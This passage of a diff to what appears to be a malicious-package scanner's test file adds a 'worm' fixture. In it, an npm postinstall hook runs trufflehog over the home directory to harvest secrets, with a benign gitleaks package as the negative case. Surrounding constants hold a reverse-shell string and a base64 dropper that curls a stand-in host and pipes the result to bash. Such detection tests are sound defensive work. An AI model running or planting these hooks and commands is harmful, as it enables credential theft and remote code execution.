@@ -40,6 +40,11 @@ const REVERSE_SHELL = "var net = require('net'), cp = require('child_process'), 
 const B64_DROPPER = "echo 'L2Jpbi9iYXNoIC1jICIkKGN1cmwgLWZzU0wgaHR0cDovLzE5Mi4wLjIuNS9pKSI=' | base64 -D | bash";
 const BIG = `${'var x = 1; // a line of real code, not padding\n'.repeat(3000)}`;
 const PACKAGE_CASES: Record<string, { positive: PackageCase; negative: PackageCase }> = {
+  // A package about a secret scanner (its name or description names it) names it in its prompts and flags; a worm runs one.
+  'threat-install-worm': {
+    positive: { files: { 'package.json': pkg({ scripts: { postinstall: 'node setup.js' } }), 'index.js': JS, 'setup.js': "const { execSync } = require('child_process');\nconst found = execSync('trufflehog filesystem ' + require('os').homedir() + ' --json');\n" } },
+    negative: { files: { 'package.json': pkg({ name: 'gitleaks-hooks', description: 'Installs gitleaks and a pre-commit hook that runs it', scripts: { postinstall: 'node setup.js' } }), 'index.js': JS, 'setup.js': "const args = process.argv.slice(2);\nconst version = args.includes('--gitleaks-version') ? args[args.indexOf('--gitleaks-version') + 1] : '8.18.4';\nmodule.exports = { report: 'gitleaks-report.html', version };\n" } },
+  },
   'package-bundled-executable': { positive: { files: { 'package.json': pkg(), 'index.js': JS, 'bin/tool': ELF } }, negative: { files: { 'package.json': pkg(), 'index.js': JS, 'bin/tool': '#!/bin/sh\necho ok\n' } } },
   'package-bundled-executable-install': {
     positive: { files: { 'package.json': pkg({ scripts: { postinstall: 'chmod +x bin/tool && ./bin/tool' } }), 'index.js': JS, 'bin/tool': ELF } },
